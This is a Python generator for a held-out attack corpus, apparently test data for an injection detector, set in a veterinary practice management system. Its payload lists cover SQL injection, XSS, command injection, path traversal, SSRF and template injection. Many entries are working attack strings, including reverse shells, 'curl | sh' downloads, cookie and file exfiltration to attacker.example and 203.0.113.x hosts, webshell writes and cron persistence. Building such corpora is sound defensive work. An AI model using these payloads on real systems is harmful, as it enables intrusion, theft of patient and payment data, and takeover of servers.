"""Held-out attack corpus for a veterinary practice management system.

Each value is a payload aimed at a vulnerable application that puts it where
its class says (concatenated into SQL, a shell line, a file path, a fetched
URL, a server-side template, HTML without escaping, a header/log/mail line, an
LDAP filter or XPath query...).  Most are written inside the practice's own
notations: patient and owner names, SOAP notes, dosage lines, lab result
lines and HL7 segments, vaccine batch numbers, microchip numbers, DICOM ids
and imaging paths, invoice lines, label printer names, referral letters.

class = "<context>-<technique>[+<encoding>]"; "plain-" classes carry a bare
payload without a domain wrapper.

All literals below are hand-written for this corpus; the template functions
at the end only combine small hand-written pools and apply encodings
(URL-encoding once/twice, case mixing, comments as spaces, ${IFS}, overlong
UTF-8, alternative IP notations, lookup nesting).  Attacker infrastructure
is attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24;
secrets are placeholders.

Run:  python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""

import json
import random
import re
from pathlib import Path
from urllib.parse import quote

SEED = 5302
ID_PREFIX = "ha53"

# ---------------------------------------------------------------------------
# sqli
# ---------------------------------------------------------------------------
SQLI = [
    ("patient-tautology", "Bella' OR '1'='1"),
    ("patient-like_tautology", "Bella%' OR 1=1 -- "),
    ("patient-union", "zz' UNION SELECT username, password_hash, NULL FROM staff_users-- -"),
    ("owner-union_escaped_quote", "O''Brien' UNION ALL SELECT card_token, card_expiry, NULL FROM payment_methods-- -"),
    ("patient-numeric_tautology", "55213 OR 1=1"),
    ("rx-stacked_update", "meloxicam'; UPDATE prescriptions SET refills_remaining = 99 WHERE patient_id = 55213; --"),
    ("lab-time_blind_concat", "ALT' || (SELECT 'x' FROM pg_sleep(7)) || '"),
    ("lab-conditional_time", "ALT' || (SELECT CASE WHEN substr(current_user,1,1)='v' THEN (SELECT 'x' FROM pg_sleep(7)) ELSE 'y' END) || '"),
    ("patient-time_blind_sleep", "Luna' AND SLEEP(6) AND 'a'='a"),
    ("patient-conditional_time_if", "Luna' AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>100, SLEEP(5), 0)-- -"),
    ("owner-waitfor_delay", "Rex'; WAITFOR DELAY '0:0:8';--"),
    ("vacc-pipe_receive_delay", "A123B04' AND 1=(CASE WHEN (SELECT COUNT(*) FROM all_users)>0 THEN DBMS_PIPE.RECEIVE_MESSAGE('v',6) ELSE 1 END)--"),
    ("inventory-recursive_cte_heavy", "Renal Select' AND (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 40000000) SELECT count(*) FROM c)>0--"),
    ("lab-error_extractvalue", "ALKP' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT email FROM clients LIMIT 1), 0x7e))-- -"),
    ("lab-error_cast", "GLU' AND 1=CAST((SELECT string_agg(username||':'||password_hash, ',') FROM staff_users) AS int)--"),
    ("imaging-error_convert", "RAD-24-00931' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--"),
    ("referral-error_utl_inaddr", "NR-2024-0913' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE ROWNUM=1))--"),
    ("imaging-oob_xp_dirtree", r"RAD-24-00931'; EXEC master..xp_dirtree '\\sqlx.attacker.example\share';--"),
    ("patient-oob_load_file_unc", r"zz' UNION SELECT LOAD_FILE(CONCAT('\\\\', (SELECT password_hash FROM staff_users LIMIT 1), '.oob.attacker.example\\a')), 2, 3-- -"),
    ("referral-oob_utl_http", "Oscar' || UTL_HTTP.REQUEST('http://203.0.113.7/'||(SELECT user FROM dual)) || '"),
    ("lab-copy_to_program", "1'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/p.sh | sh';--"),
    ("invoice-xp_cmdshell", "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'ping -n 1 203.0.113.9';--"),
    ("soap-attach_database_webshell", "x'); ATTACH DATABASE '/var/www/html/img/n.php' AS n; CREATE TABLE n.t (c TEXT); INSERT INTO n.t VALUES ('<?php system($_GET[\"c\"]); ?>');--"),
    ("imaging-into_outfile", "x' UNION SELECT '<?php passthru($_REQUEST[1]);?>', 2, 3 INTO OUTFILE '/var/www/html/img/x.php'-- -"),
    ("patient-boolean_blind_substring", "Bella' AND SUBSTRING((SELECT password_hash FROM staff_users WHERE username='dr.patel'),1,1)='$'-- -"),
    ("patient-boolean_blind_version", "Bella' AND (SELECT ascii(substr(current_setting('server_version'),1,1)))>49 AND 'q'='q"),
    ("appt-orderby_blind", "appointment_time, (CASE WHEN (SELECT substr(password_hash,1,1) FROM staff_users LIMIT 1)='a' THEN vet_name ELSE client_name END)"),
    ("appt-orderby_time", "1, (SELECT 1 FROM pg_sleep(5))"),
    ("soap-insert_subquery", "owner happy', (SELECT password_hash FROM staff_users WHERE username='admin'))-- "),
    ("invoice-update_set_injection", "paid', balance=0, status='PAID"),
    ("portal-comment_truncation", "dr.patel'-- "),
    ("patient-second_order", "Biscuit' OR owner_id<>'0"),
    ("inventory-hex_literal", "x' UNION SELECT 1, table_name, 3 FROM information_schema.tables WHERE table_schema=0x766574706d73-- -"),
    ("portal-char_function", "x' OR username=CHAR(97,100,109,105,110)-- -"),
    ("owner-information_schema", "zz' UNION SELECT column_name, data_type, NULL FROM information_schema.columns WHERE table_name='clients'-- "),
    ("vacc-sqlite_master", "zz' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("lab-union_fingerprint", "zz' UNION SELECT version(), current_database(), inet_server_addr()::text--"),
    ("patient-having_error", "x' GROUP BY patients.id HAVING 1=1--"),
    ("lab-numeric_time_blind", "142 AND 1=(SELECT 1 FROM pg_sleep(4))"),
    ("patient-numeric_stacked_drop", "4.2); DROP TABLE weight_history; --"),
    ("patient-tautology_nospace", "x'OR(1)=(1)-- -"),
    ("invoice-stacked_create_login", "'; CREATE LOGIN vetsupport WITH PASSWORD='Placeholder#2024'; EXEC sp_addsrvrolemember 'vetsupport','sysadmin';--"),
    ("lab-lo_import", "x'; SELECT lo_import('/etc/passwd', 4141);--"),
    ("imaging-pg_read_file", "x' UNION SELECT pg_read_file('/etc/passwd', 0, 2000), NULL--"),
    ("invoice-openrowset_bulk", r"'; SELECT * FROM OPENROWSET(BULK 'C:\inetpub\wwwroot\web.config', SINGLE_CLOB) AS x;--"),
    ("imaging-load_extension", "x' AND load_extension('/srv/uploads/55213/lump.so')--"),
    ("portal-conditional_error", "x' AND 1=(SELECT CASE WHEN (SELECT count(*) FROM staff_users WHERE username='admin' AND password_hash LIKE '$2b$%')=1 THEN 1/0 ELSE 1 END)--"),
    ("appt-date_tautology", "2024-06-14' OR vet_id IS NOT NULL OR 'x'='"),
    ("invoice-in_list_tautology", "10233, 10234) OR (1=1"),
    ("patient-double_quote_tautology", "Bella\" OR \"\"=\""),
    ("export-column_subquery", "name, (SELECT password_hash FROM staff_users LIMIT 1) AS species"),
    ("hl7-stacked_delete", "OBX|1|NM|ALT^Alanine aminotransferase||142'); DELETE FROM lab_results WHERE patient_id=55213;--|U/L|10-100|H|||F"),
    ("chip-like_tautology", "985141000123456' OR registered_owner_email LIKE '%@%"),
    ("inventory-boolean_blind_count", "100-4471' AND (SELECT COUNT(*) FROM cd_register WHERE balance_ml < 0)>0 AND '1'='1"),
    ("invoice-numeric_stacked_update", "0 WHERE 1=0; UPDATE invoices SET status='PAID' WHERE client_id=4471;--"),
    ("patient-hex_exec", "'; DECLARE @c varchar(64)=0x77616974666f722064656c61792027303a303a3527; EXEC(@c);--"),
    ("patient-column_probe", "Bella' ORDER BY 7-- -"),
    ("portal-dollar_quoting", "x'; INSERT INTO staff_users(username, role, password_hash) VALUES ($$locum2$$, $$admin$$, $$placeholder-hash$$);--"),
    ("dicom-tautology", "Bella^Smith' OR '1'='1"),
    ("rx-benchmark_time", "x' OR BENCHMARK(40000000, SHA1('meloxicam'))-- -"),
    ("soap-versioned_comment", "x' /*!50000UNION*/ /*!50000SELECT*/ 1, 2, 3-- -"),
    ("invoice-union+case_mix", "x' uNiOn SeLeCt NULL, email, phone FrOm clients-- -"),
    ("imaging-union+comment_space", "x'/**/UNION/**/SELECT/**/username,password_hash,NULL/**/FROM/**/staff_users--"),
    ("owner-union_bank_details", "Müller' UNION SELECT iban, bic, NULL FROM client_bank_details-- -"),
    ("plain-tautology", "' OR 'a'='a"),
    ("plain-union_null_probe", "1' AND 1=0 UNION SELECT NULL, NULL, NULL-- -"),
    ("plain-stacked_sleep", "'; SELECT pg_sleep(10)--"),
    ("plain-boolean_true", "' OR TRUE--"),
    ("plain-waitfor", "1; WAITFOR DELAY '0:0:5'--"),
    ("plain-error_cast", "' AND 1=CAST(version() AS int)--"),
    ("plain-comment_truncation", "admin'/*"),
]

# ---------------------------------------------------------------------------
# xss
# ---------------------------------------------------------------------------
XSS = [
    ("patient-script_tag", "Bella<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("patient-attr_breakout", "Mittens\"><img src=x onerror=alert(document.domain)>"),
    ("patient-single_quote_attr_autofocus", "Rex' autofocus onfocus='location=\"https://attacker.example/?c=\"+document.cookie"),
    ("soap-svg_onload", "O: T 39.4 °C <svg onload=alert(document.cookie)>"),
    ("soap-details_ontoggle", "Pt BAR <details open ontoggle=\"navigator.sendBeacon('https://attacker.example/b', document.body.innerHTML)\">"),
    ("patient-js_string_break", "Luna';fetch('//attacker.example/k?'+localStorage.getItem('access_token'));//"),
    ("patient-script_block_close", "Luna</script><img src=x onerror=alert(1)>"),
    ("owner-javascript_uri", "javascript:fetch('//attacker.example/?'+document.cookie)"),
    ("owner-javascript_uri+html_entities", "javascript&#58;alert(document.domain)"),
    ("owner-javascript_uri+tab_in_scheme", "java\tscript:alert(document.cookie)"),
    ("referral-iframe_srcdoc", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.cookie)&gt;\"></iframe>"),
    ("soap-markdown_js_link", "See [referral letter](javascript:alert(document.cookie))"),
    ("soap-textarea_breakout", "BAR, eating well</textarea><script>alert(document.domain)</script>"),
    ("referral-title_breakout", "Re: Oscar</title><svg/onload=alert(1)>"),
    ("msg-comment_breakout", "--><img src=x onerror=alert(1)><!--"),
    ("patient-css_attr_exfil", "red} input[name=csrf_token][value^=a]{background:url(https://attacker.example/t?a)"),
    ("imaging-video_source_onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("lab-noscript_mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("msg-svg_animate_onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("imaging-svg_set_href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>open study</text></a></svg>"),
    ("msg-button_formaction", "<form><button formaction=javascript:alert(document.cookie)>Confirm appointment</button></form>"),
    ("referral-base_hijack", "<base href=\"https://attacker.example/\">"),
    ("msg-dangling_markup", "Hi, photo attached <img src='https://attacker.example/log?html="),
    ("msg-meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("msg-angularjs_csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("patient-vue_template", "{{_c.constructor('alert(document.domain)')()}}"),
    ("lab-handler+unicode_escape", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("msg-eval_atob+base64", "<img src=x onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8/Yz0nK2RvY3VtZW50LmNvb2tpZSk='))>"),
    ("patient-handler+html_entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"),
    ("patient-js_template_literal", "${fetch('//attacker.example/?'+document.cookie)}"),
    ("lab-js_string_dq", "\"-alert(document.domain)-\""),
    ("patient-backslash_escape_bypass", "\\\";fetch('//attacker.example/?'+document.cookie);//"),
    ("invoice-style_block_breakout", "</style><script>alert(1)</script>"),
    ("imaging-svg_script+html_entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("imaging-src_eval", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("referral-iframe_javascript", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("referral-remote_stylesheet", "<link rel=stylesheet href=https://attacker.example/x.css>"),
    ("soap-contenteditable_onblur", "<x contenteditable onblur=alert(1)>tap to edit</x>"),
    ("msg-fullscreen_pointer", "<div onpointerenter=alert(document.cookie) style=\"position:fixed;inset:0\"></div>"),
    ("patient-dynamic_import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("imaging-svg_upload", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//attacker.example/?'+document.cookie)</script><circle r=\"40\"/></svg>"),
    ("msg-html_email_onerror", "Hi! Photo of the lump attached <img src=\"cid:lump.jpg\" onerror=\"this.src='https://attacker.example/p?'+document.cookie\">"),
    ("patient-unquoted_attr", "x onmouseover=alert(document.cookie)"),
    ("patient-slash_separator", "<img/src/onerror=alert(1)>"),
    ("vacc-tab_separator", "A123B04<svg\tonload=alert(1)>"),
    ("patient-script_tag+case_mix", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("soap-nested_strip_bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("lab-string_concat_sink", "<img src=x onerror=window['al'+'ert'](document.cookie)>"),
    ("lab-regex_source", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    ("msg-tagged_template", "<img src=x onerror=alert`1`>"),
    ("referral-btoa_exfil", "<svg onload=location='//attacker.example/?'+btoa(document.cookie)>"),
    ("lab-bold_mouseover", "Smear reviewed <b onmouseover=alert(1)>toxic change 2+</b>"),
    ("msg-fetch_chain", "<img src=x onerror=\"fetch('/api/staff',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('//attacker.example/x',{method:'POST',body:t}))\">"),
    ("imaging-svg_xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><rect width=100 height=100 /></a></svg>"),
    ("portal-dom_hash", "https://portal.example-vets.co.uk/pets#<img src=x onerror=alert(document.cookie)>"),
    ("lab-result_line_onerror", "ALT 142 U/L (H)<img src=1 onerror=alert(1)>"),
    ("dicom-patientname_svg", "Bella^Smith<svg onload=alert(document.domain)>"),
    ("inventory-external_script", "100-4471\"><script src=//attacker.example/s.js></script>"),
    ("referral-tabindex_onfocus", "\" tabindex=1 autofocus onfocus=\"alert(1)"),
    ("soap-german_note_onerror", "S/ Hund frisst nicht. O/ T 39,1 °C <img src=x onerror=alert(document.cookie)>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg_onload", "<svg/onload=alert(1)>"),
    ("plain-javascript_uri", "javascript:alert(1)"),
    ("plain-attr_breakout", "\"><script>alert(1)</script>"),
    ("plain-iframe_javascript", "<iframe src=javascript:alert(1)>"),
    ("plain-body_onpageshow", "<body onpageshow=alert(1)>"),
]

# ---------------------------------------------------------------------------
# cmdi
# ---------------------------------------------------------------------------
CMDI = [
    ("imaging-semicolon", "IM-0001-0003.dcm; cat /etc/passwd"),
    ("imaging-pipe_revshell", "thorax_RL.dcm | bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'"),
    ("lab-and_chain", "10.0.4.21 && curl -fsSL http://attacker.example/i.sh | sh"),
    ("lab-or_chain", "analyser-01.invalid || id"),
    ("printer-subshell", "Zebra_GK420d$(id>/tmp/p)"),
    ("printer-backtick", "Zebra_GK420d`uname -a`"),
    ("export-newline", "RAD-24-00931\nwget -q -O /tmp/.x http://203.0.113.14/x && chmod +x /tmp/.x && /tmp/.x"),
    ("imaging-semicolon+ifs_space", "x.dcm;cat${IFS}/etc/shadow"),
    ("imaging-brace_expansion", "x.dcm;{cat,/etc/passwd}"),
    ("imaging-glob_path", "x.dcm;/???/?at /???/p?ss??"),
    ("export-quote_split", "RAD.zip;c''at /e\"\"tc/pa's'swd"),
    ("export-backslash_split", "RAD.zip;c\\at /et\\c/pas\\swd"),
    ("printer-dollar_at_split", "Zebra;ca$@t /etc/host$@name"),
    ("printer-var_slice_slash", "Zebra;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("imaging-ansi_c_quote", "x.dcm;$'\\x63\\x61\\x74' /etc/passwd"),
    ("export-decode_pipe+base64", "x;echo Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zIHwgc2g= | base64 -d | sh"),
    ("lab-time_sleep", "10.0.4.21; sleep 9 #"),
    ("chip-oob_dns", "985141000123456;nslookup $(whoami).oob.attacker.example"),
    ("chip-exfil_curl", "985141000123456;curl -d @/etc/passwd http://attacker.example/u"),
    ("photo-single_quote_break", "lump.jpg'; id; echo '"),
    ("printer-dq_subshell", "Bella $(curl http://attacker.example/$(hostname))"),
    ("chip-curl_argument_injection", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("backup-tar_checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /srv/uploads/55213/notes.sh"),
    ("imaging-find_exec_argument", "*.dcm -exec sh -c id ;"),
    ("dicom-ssh_proxycommand", "-oProxyCommand=sh -c 'id>/tmp/p' pacs01"),
    ("photo-imagemagick_pipe", "|curl -s http://attacker.example/m|sh"),
    ("photo-imagemagick_mvg_delegate", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|id > /tmp/im\")'\npop graphic-context"),
    ("imaging-win_ampersand", "RAD-24-00931.dcm & type C:\\Windows\\win.ini"),
    ("imaging-win_powershell", "x.dcm | powershell -nop -c \"iwr http://203.0.113.22/a.ps1 | iex\""),
    ("export-win_comspec", "report.pdf && %COMSPEC% /c whoami > C:\\inetpub\\wwwroot\\w.txt"),
    ("export-win_caret_split", "report.pdf & c^m^d /c who^ami"),
    ("lab-decode_pipe+ifs_space", "10.0.4.21;echo${IFS}aWQ=|base64${IFS}-d|sh"),
    ("imaging-webshell_write", "x.dcm; echo '<?php system($_GET[0]);?>' > /var/www/html/pacs/s.php"),
    ("chip-python_revshell", "x;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.40\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("printer-busybox_nc", "Zebra;busybox nc 203.0.113.8 4444 -e sh"),
    ("printer-mkfifo_shell", "Zebra;rm -f /tmp/f;mkfifo /tmp/f;sh -i </tmp/f 2>&1|nc 203.0.113.8 4444 >/tmp/f"),
    ("backup-crontab_persist", "x;(crontab -l; echo \"* * * * * curl -s http://attacker.example/c|sh\") | crontab -"),
    ("backup-authorized_keys", "x;echo \"ssh-ed25519 AAAAPLACEHOLDERKEYONLY attacker@attacker.example\" >> ~/.ssh/authorized_keys"),
    ("lab-env_exfil", "10.0.4.21;env | curl -X POST --data-binary @- http://attacker.example/env"),
    ("lab-environ_nc", "10.0.4.21;cat /proc/self/environ | nc 203.0.113.3 80"),
    ("msg-mail_subject_break", "Reminder for Bella\" ; id ; echo \""),
    ("msg-sendmail_argument", "owner@example.com -X/var/www/html/portal/log.php"),
    ("export-zip_testcmd", "referral.zip -T -TT 'sh -c id #'"),
    ("export-var_concat", "x;a=c;b=at;$a$b /etc/passwd"),
    ("export-rev_string", "x;rev<<<'dwssap/cte/ tac'|sh"),
    ("lab-printf_octal", "10.0.4.21;printf '\\151\\144'|sh"),
    ("lab-xxd_hex", "10.0.4.21;xxd -r -p<<<6964|sh"),
    ("lab-rot13", "10.0.4.21;tr 'a-z' 'n-za-m'<<<'vq'|sh"),
    ("imaging-dev_tcp", "x.dcm;bash -c 'exec 3<>/dev/tcp/203.0.113.2/443;sh <&3 >&3 2>&3'"),
    ("lab-win_ping_time", "10.0.4.21 & ping -n 11 127.0.0.1 >nul"),
    ("imaging-win_certutil", "x.dcm & certutil -urlcache -split -f http://203.0.113.6/s.exe %TEMP%\\s.exe & %TEMP%\\s.exe"),
    ("dicom-aetitle_semicolon", "VETRAD01 104 /dev/null; id #"),
    ("referral-pdf_filename", "letter_55213.pdf;wget -qO- http://attacker.example/w|sh"),
    ("imaging-video_filename_subshell", "endo_2024-06-02.mp4$(curl -s attacker.example/f|sh).mp4"),
    ("backup-pipe_tee_webroot", "nightly.sql.gz | tee /var/www/html/dump.sql.gz"),
    ("printer-lp_server_option", "Zebra -h attacker.example:631"),
    ("chip-wget_post_file", "985141000123456 --post-file=/etc/passwd http://attacker.example/w"),
    ("inventory-tar_exfil", "stock_2024-06.csv; tar czf - /srv/vetpms | curl -T - http://attacker.example/t"),
    ("imaging-unicode_filename_subshell", "Röntgen_Thorax_Fritz$(id).dcm"),
    ("plain-semicolon", ";id"),
    ("plain-pipe", "| whoami"),
    ("plain-subshell", "$(id)"),
    ("plain-backtick", "`id`"),
    ("plain-and_chain", "&& uname -a"),
    ("plain-sleep", "; sleep 5"),
    ("plain-win_ampersand", "& whoami"),
    ("plain-newline", "\nid"),
]

# ---------------------------------------------------------------------------
# traversal
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("imaging-dot_dot_slash", "../../../../etc/passwd"),
    ("imaging-prefixed_dot_dot", "studies/2024/05/../../../../../etc/shadow"),
    ("imaging-accession_dot_dot", "RAD-24-00931/../../../../app/.env"),
    ("report-win_backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("report-win_webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("report-absolute_path", "/etc/passwd"),
    ("report-absolute_windows", "C:\\ProgramData\\VetPMS\\config\\db.ini"),
    ("imaging-dot_dot_slash+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("imaging-dot_dot_slash+overlong_dots", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("imaging-nested_strip", "....//....//....//etc/passwd"),
    ("attachment-nested_strip_dot", "..././..././..././etc/passwd"),
    ("report-win_backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("imaging-null_byte_extension+urlenc", "../../../etc/passwd%00.dcm"),
    ("portal-path_parameter", "/portal/..;/..;/manager/html"),
    ("attachment-proc_environ", "lump.jpg/../../../../proc/self/environ"),
    ("report-log_read", "../../../../var/log/nginx/access.log"),
    ("report-ssh_key", "../../../../home/vetpms/.ssh/id_rsa"),
    ("template-app_settings", "../../config/settings.py"),
    ("import-zip_slip", "../../../../var/www/html/shell.php"),
    ("imaging-slash_only+urlenc", "..%2f..%2f..%2fetc%2fpasswd"),
    ("imaging-mixed_dots+urlenc", ".%2e/.%2e/.%2e/etc/passwd"),
    ("report-win_dots_backslash+urlenc", "%2e%2e%5c%2e%2e%5cboot.ini"),
    ("imaging-division_slash+iis_unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("imaging-allowed_prefix_escape", "/var/lib/pacs/../../../etc/passwd"),
    ("imaging-pacs_prefix_credentials", "/mnt/pacs/2024/../../../root/.aws/credentials"),
    ("template-name_escape", "templates/referral/../../../../etc/hosts"),
    ("template-file_suffix_escape", "letter_en.html/../../../app.py"),
    ("report-win_nested_strip", "....\\\\....\\\\....\\\\windows\\win.ini"),
    ("imaging-double_slash", "..//..//..//etc//passwd"),
    ("imaging-dot_segments", "./.././.././../etc/passwd"),
    ("attachment-mixed_separators", "..\\/..\\/..\\/etc/passwd"),
    ("imaging-pacs_config", "../../../../etc/orthanc/orthanc.json"),
    ("report-absolute_iis_log", "C:/inetpub/logs/LogFiles/W3SVC1/u_ex240601.log"),
    ("imaging-dot_dot_slash+overlong_3byte", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    ("imaging-dot_dot_slash+fullwidth_slash", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("export-write_cron", "exports/../../../../../../var/spool/cron/crontabs/root"),
    ("attachment-overwrite_static_js", "../../../../srv/portal/static/js/app.js"),
    ("dicom-referenced_file_id", "IMAGES\\..\\..\\..\\..\\etc\\passwd"),
    ("referral-attachment_key", "attachments/55213/../../../../srv/vetpms/secrets/jwt_private.pem"),
    ("imaging-dot_dot_slash+double_urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("import-zip_slip_windows", "..\\..\\..\\..\\inetpub\\wwwroot\\aspnet_client\\x.aspx"),
    ("plain-dot_dot_slash", "../../../../../../etc/passwd"),
    ("plain-win_backslash", "..\\..\\..\\..\\..\\boot.ini"),
    ("plain-proc_environ", "/proc/self/environ"),
    ("plain-dot_dot_slash+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("plain-absolute_windows", "C:\\Windows\\win.ini"),
]

# ---------------------------------------------------------------------------
# ssrf
# ---------------------------------------------------------------------------
SSRF = [
    ("photo-cloud_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("webhook-cloud_metadata+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("webhook-cloud_metadata+hex_ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("webhook-cloud_metadata+octal_ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("photo-cloud_metadata+short_ip", "http://169.254.43518/latest/meta-data/"),
    ("photo-cloud_metadata+ipv6_mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("photo-cloud_metadata_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("pacs-internal_service", "http://127.0.0.1:8042/patients"),
    ("webhook-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20-s%20http://attacker.example/r%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("webhook-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("webhook-zero_host", "http://0:8080/admin"),
    ("webhook-ipv6_unspecified", "http://[::]:8080/admin"),
    ("referral-dns_to_loopback", "http://loopback.attacker.example:5432/"),
    ("referral-open_redirect_chain", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("lab-userinfo_confusion", "http://lab-partner.example@127.0.0.1:9200/_cat/indices"),
    ("lab-fragment_confusion", "http://127.0.0.1:9200#@lab-partner.example/"),
    ("lab-suffix_confusion", "https://lab-partner.example.attacker.example/results"),
    ("webhook-docker_api", "http://127.0.0.1:2375/containers/json"),
    ("lab-internal_host", "http://10.0.4.21/cgi-bin/config.xml"),
    ("photo-file_scheme", "file:///etc/passwd"),
    ("photo-file_scheme_windows", "file://localhost/c:/windows/win.ini"),
    ("referral-jar_scheme", "jar:http://attacker.example/a.zip!/x.txt"),
    ("photo-cloud_metadata+enclosed_alnum", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("pacs-internal_service+ipv6_mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8042/patients"),
    ("pacs-internal_service+decimal_ip", "http://2130706433:8042/studies"),
    ("pacs-internal_service+octal_ip", "http://017700000001:8042/instances"),
    ("webhook-server_status+hex_short_ip", "http://0x7f.1/server-status"),
    ("webhook-kubelet_readonly", "http://127.0.0.1:10255/pods"),
    ("pacs-dicomweb_query", "http://127.0.0.1:8042/dicom-web/studies?PatientName=*"),
    ("invoice-pdf_render_img", "<img src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">"),
    ("invoice-pdf_render_file_iframe", "<iframe src=\"file:///etc/passwd\" width=\"900\" height=\"900\"></iframe>"),
    ("invoice-pdf_render_attachment", "<link rel=\"attachment\" href=\"file:///etc/shadow\">"),
    ("photo-cloud_metadata_ram", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("photo-cloud_metadata_opc", "http://169.254.169.254/opc/v1/instance/"),
    ("webhook-task_metadata", "http://169.254.170.2/v2/metadata"),
    ("photo-cloud_metadata+urlenc_host", "http://%31%36%39.254.169.254/latest/meta-data/"),
    ("webhook-trailing_dot_localhost", "http://localhost./admin/"),
    ("imaging-unc_smb", "\\\\203.0.113.50\\share\\lump.jpg"),
    ("webhook-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20oakhill%0D%0AMAIL%20FROM:%3Cbilling@oakhill-vets.example%3E%0D%0ARCPT%20TO:%3Cvictim@example.com%3E%0D%0ADATA%0D%0ASubject:%20Overdue%0D%0A%0D%0APay%20at%20https://attacker.example/%0D%0A.%0D%0AQUIT%0D%0A"),
    ("referral-svg_image_href", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://127.0.0.1:8042/instances\" width=\"10\" height=\"10\"/></svg>"),
    ("hl7-reference_pointer", "OBX|2|RP|PDF^Report||http://169.254.169.254/latest/meta-data/||||||F"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-cloud_metadata", "http://169.254.169.254/"),
    ("plain-file_scheme", "file:///etc/hosts"),
    ("plain-internal_actuator", "http://localhost:8080/actuator/env"),
    ("plain-localhost_name", "http://localhost/"),
]

# ---------------------------------------------------------------------------
# code (SSTI, expression languages, deserialization, XXE, lookups,
#       prototype pollution, CSV formulas)
# ---------------------------------------------------------------------------
CODE = [
    ("vacc-jinja2_ssti", "Hi {{ owner_first }}, {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("vacc-jinja2_lipsum", "{{ lipsum.__globals__['os'].popen('curl -s http://attacker.example/j|sh').read() }}"),
    ("msg-jinja2_config_leak", "Thanks for the visit! {{ config.items() }}"),
    ("referral-jinja2_self_builtins", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
